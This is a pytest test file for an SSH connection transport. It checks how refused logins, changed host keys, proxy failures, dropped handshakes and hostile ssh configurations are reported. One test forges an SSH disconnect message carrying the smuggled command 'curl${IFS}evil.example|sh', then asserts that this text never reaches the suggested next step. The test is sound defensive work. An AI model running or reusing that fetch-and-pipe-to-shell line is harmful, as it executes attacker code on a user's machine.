"""ssh as a transport, with real servers: what keeps it from a host is told in time, and never in the host's words."""

from __future__ import annotations

import asyncio
import os
import signal
import socket
import struct
import subprocess
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import asyncssh
import pytest

from remote_runner.errors import (
    FarShellError,
    HandshakeDroppedError,
    HostError,
    HostKeyChangedError,
    HostKeyUnknownError,
    HostLostError,
    HostRefusedError,
    HostUnreachableError,
    HostUnresolvedError,
    SshFailedError,
)
from remote_runner.inventory.ssh_target import SshTarget
from tests.delay import DelayProxy
from tests.hosts import Keys, UserSshd, free_port, which
from tests.remote_runner.connection.far import by_ssh, linked, run, small_agent


def with_options(target: SshTarget, **options: str) -> SshTarget:
    """The target with these options before its own."""
    return replace(target, options=(*options.items(), *target.options))


def failure(
    target: SshTarget, directory: Path, *, connect_s: float = 20.0, tolerate_s: float = 60.0, **options: Any
) -> HostError:
    """What keeps a link from that host."""
    caught: list[HostError] = []

    async def check() -> None:
        transport = by_ssh(target, directory, connect_s=connect_s, tolerate_s=tolerate_s, **options)
        with pytest.raises(HostError) as found:
            async with linked(transport, small_agent(directory), connect_s=connect_s, tolerate_s=tolerate_s):
                pass
        caught.append(found.value)

    run(check())
    assert list((directory / "logs").iterdir()) == []
    return caught[0]


def test_a_login_that_works_knows_the_address(user_sshd: UserSshd, tmp_path: Path) -> None:
    async def check() -> None:
        async with linked(by_ssh(user_sshd.target, tmp_path), small_agent(tmp_path)) as link:
            assert link.address == "127.0.0.1"
            assert link.attempts == 1
        assert user_sshd.connections() == 2  # one is the test's own look for the banner

    run(check())


def test_a_wrong_key_is_refused_once(user_sshd: UserSshd, tmp_path: Path) -> None:
    other = Keys.make(tmp_path / "other keys").client
    before = user_sshd.connections()
    error = failure(replace(user_sshd.target, identity_file=str(other)), tmp_path)
    assert "the host refused the login (it offers: publickey)" in str(error)
    assert "fab hosts.login --host usershost" in error.next_step
    assert user_sshd.connections() == before + 1


def test_an_unknown_host_is_refused_with_the_line_that_accepts_it(user_sshd: UserSshd, tmp_path: Path) -> None:
    for strict in ("yes", "ask"):
        target = with_options(user_sshd.target, UserKnownHostsFile="/dev/null", StrictHostKeyChecking=strict)
        error = failure(target, tmp_path)
        assert isinstance(error, HostKeyUnknownError)
        assert "ssh -o StrictHostKeyChecking=ask" in error.next_step


@pytest.mark.parametrize("strict", ["yes", "no"])
@pytest.mark.parametrize("alias", ["", "node"])
def test_a_changed_key_ends_the_attempt_and_the_next_step_removes_it(
    user_sshd: UserSshd, tmp_path: Path, strict: str, alias: str
) -> None:
    known, other = tmp_path / "known", Keys.make(tmp_path / "other keys").server.with_suffix(".pub").read_text()
    known.write_text(f"{alias or user_sshd._known_name()} {other}")
    options = {"UserKnownHostsFile": str(known), "StrictHostKeyChecking": strict}
    error = failure(with_options(user_sshd.target, **options, **({"HostKeyAlias": alias} if alias else {})), tmp_path)
    assert isinstance(error, HostKeyChangedError)
    subprocess.run(["sh", "-c", error.next_step.partition("then: ")[2]], check=True, capture_output=True)
    assert known.read_text() == ""


def test_a_new_key_is_taken_where_the_configuration_asks_for_none(user_sshd: UserSshd, tmp_path: Path) -> None:
    async def check() -> None:
        target = with_options(user_sshd.target, UserKnownHostsFile="/dev/null", StrictHostKeyChecking="no")
        async with linked(by_ssh(target, tmp_path), small_agent(tmp_path)):
            pass

    run(check())


def test_a_port_without_a_server_and_a_name_without_an_address(user_sshd: UserSshd, tmp_path: Path) -> None:
    refused = failure(replace(user_sshd.target, port=free_port()), tmp_path)
    assert isinstance(refused, HostRefusedError)
    unresolved = failure(replace(user_sshd.target, host="no-such-host.invalid"), tmp_path, nearest=("dex",))
    assert isinstance(unresolved, HostUnresolvedError)
    assert "did you mean dex?" in unresolved.next_step


def test_a_host_that_says_nothing_is_given_up_at_the_deadline(user_sshd: UserSshd, tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        began = time.monotonic()
        error = failure(replace(user_sshd.target, port=server.getsockname()[1]), tmp_path, connect_s=2)
        assert time.monotonic() - began < 8
    assert isinstance(error, HandshakeDroppedError | HostUnreachableError)


def test_dropped_handshakes_are_tried_again(user_sshd: UserSshd, tmp_path: Path) -> None:
    async def check() -> None:
        with DelayProxy("127.0.0.1", user_sshd.port, 0.0, drops=3) as proxy:
            async with linked(by_ssh(user_sshd.through(proxy.port), tmp_path), small_agent(tmp_path)) as link:
                assert link.attempts == 4

    run(check())


def test_many_links_through_a_door_for_few(tmp_path: Path, keys: Keys) -> None:
    """sshd drops what comes beside one handshake; all get in within their time."""
    with UserSshd.start(tmp_path / "busy", keys=keys, config=("MaxStartups 1:100:2",)) as host:

        async def check() -> None:
            async def one(n: int) -> int:
                directory = tmp_path / str(n)
                directory.mkdir()
                async with linked(by_ssh(host.target, directory), small_agent(tmp_path)) as link:
                    return link.attempts

            assert sum(await asyncio.gather(*(one(n) for n in range(6)))) > 6

        run(check())


@pytest.mark.parametrize(
    ("option", "words"),
    [
        (("ProxyJump", "no-such-jump.invalid"), "no-such-jump.invalid"),
        (("ProxyCommand", "echo bastion-says-no >&2; exit 1"), "bastion-says-no"),
        (("ProxyCommand", "/nonexistent/proxy"), "/nonexistent/proxy"),
    ],
)
def test_a_proxy_that_fails_is_named_at_once(
    user_sshd: UserSshd, tmp_path: Path, option: tuple[str, str], words: str
) -> None:
    began = time.monotonic()
    error = failure(with_options(user_sshd.target, **dict([option])), tmp_path)
    assert isinstance(error, SshFailedError)
    assert words in str(error)
    assert "MaxStartups" not in str(error)
    assert time.monotonic() - began < 8


@pytest.mark.parametrize(
    ("line", "kind", "words"),
    [
        ("ForceCommand echo no shells here; exit 3", FarShellError, "no shells here"),
        ("ForceCommand exec sleep 100", FarShellError, "did not answer in time"),
        ("ChrootDirectory {open}", HostError, "took the login"),
        ("MaxSessions 0", HostError, "took the login"),
    ],
)
def test_a_login_without_a_shell_is_told(
    tmp_path: Path, keys: Keys, line: str, kind: type[HostError], words: str
) -> None:
    place = tmp_path / "open"
    place.mkdir()
    place.chmod(0o777)
    with UserSshd.start(tmp_path / "odd", keys=keys, config=(line.format(open=place),)) as host:
        error = failure(host.target, tmp_path, connect_s=3)
    assert type(error) is kind, error
    assert words in str(error)
    assert "ended with status 0" not in str(error)


@contextmanager
def served(serve: Callable[[socket.socket], None]) -> Iterator[int]:
    """The port of a server that speaks so to everybody."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def take() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = server.accept()
                    threading.Thread(target=talk, args=(connection,), daemon=True).start()

        def talk(connection: socket.socket) -> None:
            with connection, suppress(OSError):
                serve(connection)

        threading.Thread(target=take, daemon=True).start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)


def test_somebody_in_between_writes_no_command_for_the_user(user_sshd: UserSshd, tmp_path: Path) -> None:
    """A DISCONNECT in the clear, before any key: its text is a stranger's."""
    text = (
        b"x\nREMOTE HOST IDENTIFICATION HAS CHANGED!\n"
        b"Offending ED25519 key in ~/.ssh/known_hosts;curl${IFS}evil.example|sh:12\n"
    )

    def serve(connection: socket.socket) -> None:
        connection.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
        connection.recv(4096)
        body = b"\x01" + struct.pack(">II", 2, len(text)) + text + struct.pack(">I", 0)
        padding = 8 - (len(body) + 5) % 8 + 8
        connection.sendall(struct.pack(">IB", len(body) + padding + 1, padding) + body + bytes(padding))
        connection.recv(4096)

    with served(serve) as port:
        error = failure(replace(user_sshd.target, port=port), tmp_path)
    assert type(error) is SshFailedError
    assert "evil.example" in str(error)  # shown
    assert "evil.example" not in error.next_step


def test_words_without_end_before_the_protocol(user_sshd: UserSshd, tmp_path: Path) -> None:
    def serve(connection: socket.socket) -> None:
        while True:
            connection.sendall(b"Welcome to this machine.\r\n" * 100)

    with served(serve) as port:
        error = failure(user_sshd.through(port), tmp_path, connect_s=2)
    assert isinstance(error, HandshakeDroppedError | HostUnreachableError)


def test_banners_without_end(user_sshd: UserSshd, tmp_path: Path) -> None:
    class Talks(asyncssh.SSHServer):
        def connection_made(self, conn: asyncssh.SSHServerConnection) -> None:
            self._connection: Any = conn  # asyncssh 2.20 types a part of it

        async def begin_auth(self, username: str) -> bool:
            with suppress(OSError, asyncssh.Error):
                while not self._connection.is_closed():
                    self._connection.send_auth_banner("Host key verification failed.\r\n" * 1000)
                    await asyncio.sleep(0.001)
            return True

    async def check() -> None:
        key = str(user_sshd.keys.server)
        server = await asyncssh.create_server(Talks, "127.0.0.1", 0, server_host_keys=[key])
        target = user_sshd.through(server.sockets[0].getsockname()[1])
        with pytest.raises(HostUnreachableError, match="banners without end"):
            async with linked(by_ssh(target, tmp_path), small_agent(tmp_path)):
                pass
        server.close()

    run(check())


@contextmanager
def master(host: UserSshd, socket_path: Path) -> Iterator[subprocess.Popen[bytes]]:
    """A master of the user's own."""
    argv = host.ssh_argv()
    argv[1:1] = ["-M", "-N", "-S", str(socket_path)]
    process = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        while not socket_path.exists():
            assert process.poll() is None
            time.sleep(0.01)  # nobody tells when it listens
        yield process
    finally:
        process.kill()
        process.wait()


@pytest.fixture
def short() -> Iterator[Path]:
    """A directory for sockets."""
    with tempfile.TemporaryDirectory(prefix="rr-", dir="/tmp") as directory:
        yield Path(directory)


def test_a_master_of_the_users_serves_the_first_attachment_and_none_after_it(
    user_sshd: UserSshd, tmp_path: Path, short: Path
) -> None:
    async def check() -> None:
        target = with_options(user_sshd.target, ControlPath=str(short / "m"))
        with master(user_sshd, short / "m"):
            before = user_sshd.connections()
            async with linked(by_ssh(target, tmp_path), small_agent(tmp_path)) as link:
                assert user_sshd.connections() == before
                assert link.address == "192.0.2.1"  # the agent's word: ssh does not tell
                assert link._pipes is not None
                os.kill(link._pipes._process.pid, signal.SIGKILL)
                while link.attempts < 2:  # the master notices in its own time
                    await asyncio.sleep(0.02)
                await (await link.request({"verb": "say"})).receive()
                assert user_sshd.connections() == before + 1

    run(check())


def test_a_master_that_is_stopped_is_left_alone(
    user_sshd: UserSshd, tmp_path: Path, short: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("remote_runner.connection.transports.ssh._MASTER_S", 1.0)

    async def check() -> None:
        target = with_options(user_sshd.target, ControlPath=str(short / "m"))
        with master(user_sshd, short / "m") as process:
            os.kill(process.pid, signal.SIGSTOP)
            async with linked(by_ssh(target, tmp_path), small_agent(tmp_path)) as link:
                assert link.attempts == 2

    run(check())


def test_a_login_by_hand_brings_back_a_host_that_asks(user_sshd: UserSshd, tmp_path: Path, short: Path) -> None:
    """The key is taken away during a cut: the message names hosts.login, and what that opens is used."""

    async def check() -> None:
        told: list[str] = []
        transport = by_ssh(user_sshd.target, tmp_path, login_socket=short / "login")
        async with linked(transport, small_agent(tmp_path), told=told.append) as link:
            with master(user_sshd, short / "aside"):
                (user_sshd.directory / "authorized_keys").write_text("")
                assert link._pipes is not None
                os.kill(link._pipes._process.pid, signal.SIGKILL)
                asked = asyncio.create_task(_say(link))
                while not any("fab hosts.login" in text for text in told):
                    await asyncio.sleep(0.05)
                (short / "aside").rename(short / "login")
                await asked

    async def _say(link: Any) -> None:
        await (await link.request({"verb": "say"})).receive()

    run(check())


def test_traps_of_a_configuration_do_not_matter(
    user_sshd: UserSshd, tmp_path: Path, short: Path, ssh_config: Path
) -> None:
    async def check() -> None:
        ssh_config.write_text(
            "Host *\n  ForkAfterAuthentication yes\n  StdinNull yes\n  RequestTTY force\n  RemoteCommand echo no\n"
            f"  PermitLocalCommand yes\n  LocalCommand touch {tmp_path}/local\n  ForwardX11 yes\n  SessionType none\n"
            f"  LogLevel QUIET\n  ControlMaster auto\n  ControlPersist 60\n  ControlPath {short}/%C\n"
            f"  LocalForward 127.0.0.1:{free_port()} 127.0.0.1:1\n  BatchMode no\n  ServerAliveInterval 0\n"
        )
        async with linked(by_ssh(user_sshd.target, tmp_path), small_agent(tmp_path)) as link:
            assert link.address == "127.0.0.1"
        assert list(short.iterdir()) == []
        assert not (tmp_path / "local").exists()

    run(check())


def test_a_lost_connection_says_what_ssh_said(user_sshd: UserSshd, tmp_path: Path) -> None:
    async def check() -> None:
        async with linked(by_ssh(user_sshd.target, tmp_path), small_agent(tmp_path), tolerate_s=1) as link:
            stream = await link.request({"verb": "wait"})
            user_sshd.kill()
            with pytest.raises(HostLostError, match=r"closed by remote host|Connection reset|Broken pipe|refused"):
                await stream.receive()

    run(check())


def test_ssh_that_is_missing_is_told(user_sshd: UserSshd, tmp_path: Path) -> None:
    async def check() -> None:
        transport = by_ssh(user_sshd.target, tmp_path)
        transport.environ = {"PATH": str(tmp_path)}
        with pytest.raises(Exception, match="not found on PATH"):
            async with linked(transport, small_agent(tmp_path)):
                pass

    assert which("ssh")
    run(check())
